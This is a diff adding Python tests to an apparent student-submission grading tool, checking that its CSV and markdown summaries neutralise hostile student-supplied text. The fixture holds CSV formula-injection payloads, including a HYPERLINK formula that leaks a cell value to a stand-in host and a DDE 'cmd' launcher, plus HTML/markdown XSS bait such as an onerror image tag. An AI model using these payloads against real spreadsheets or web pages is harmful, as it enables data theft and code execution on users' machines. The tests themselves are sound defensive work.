@@ -489,6 +489,41 @@ def test_summary_csv_has_student_notes_and_flags_columns():
     assert rows[2]["error"].startswith("not graded") and rows[2]["grid:points"] == ""
 
 
+def hostile_results() -> list[Result]:
+    """Names and messages a student controls, crafted to be read as formulas or markup."""
+    md_bait = ("<img src=x onerror=alert(1)> ![p](https://evil.example/p.png) "
+               "[✓ 1/1 passed](https://evil.example) `code` <!-- \\[x](y)")
+    return [Result('subs/=HYPERLINK("evil?"&F2,"Jane")_1_assignsubmission_file_02.ipynb', "x",
+                   "02_rearrange", 0, 3, [exercise("grid", 0, 3, "+cmd|' /C calc'!A0")],
+                   error="-2+3", student='=HYPERLINK("evil?"&F2,"Jane")', student_from="moodle",
+                   notes=["@SUM(1)", "\tTAB"]),
+            Result("subs/<b>eve</b>/02.ipynb", "eve__02", "02_rearrange", 0, 3,
+                   [exercise("grid", 0, 3, md_bait)], student="<b>eve</b> [x](y)",
+                   student_from="folder")]
+
+
+def test_csv_cells_never_start_a_formula():
+    for text in (summary_csv(hostile_results()), gradebook_csv(hostile_results())):
+        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
+    rows = list(csv.DictReader(io.StringIO(summary_csv(hostile_results()))))
+    jane = next(r for r in rows if r["report"] == "x")
+    assert (jane["student"], jane["grid:message"], jane["error"]) == (
+        '\'=HYPERLINK("evil?"&F2,"Jane")', "'+cmd|' /C calc'!A0", "'-2+3")
+    assert [r[0] for r in csv.reader(io.StringIO(gradebook_csv(hostile_results())))][1:] == [
+        "<b>eve</b> [x](y)", '\'=HYPERLINK("evil?"&F2,"Jane")']
+
+
+def test_summary_md_shows_untrusted_text_as_plain_text():
+    md = summary_md(hostile_results())
+    for raw in ("<img", "<b>", "<!--", "![", "`code`"):
+        assert raw not in md, raw
+    assert not re.search(r"(?<!\\)\]\(", md)          # no unescaped link
+    assert "&lt;img src=x onerror=alert(1)&gt; \\!\\[p\\](https://evil.example/p.png)" in md
+    assert "| &lt;b&gt;eve&lt;/b&gt; \\[x\\](y) |" in md
+    assert "\\\\\\[x\\](y)" in md           # a backslash of the text cannot undo an escape
+
+
 def test_results_round_trip_through_json():
     for r in teacher_results():
         assert Result.from_json(json.loads(json.dumps(r.to_json()))) == r
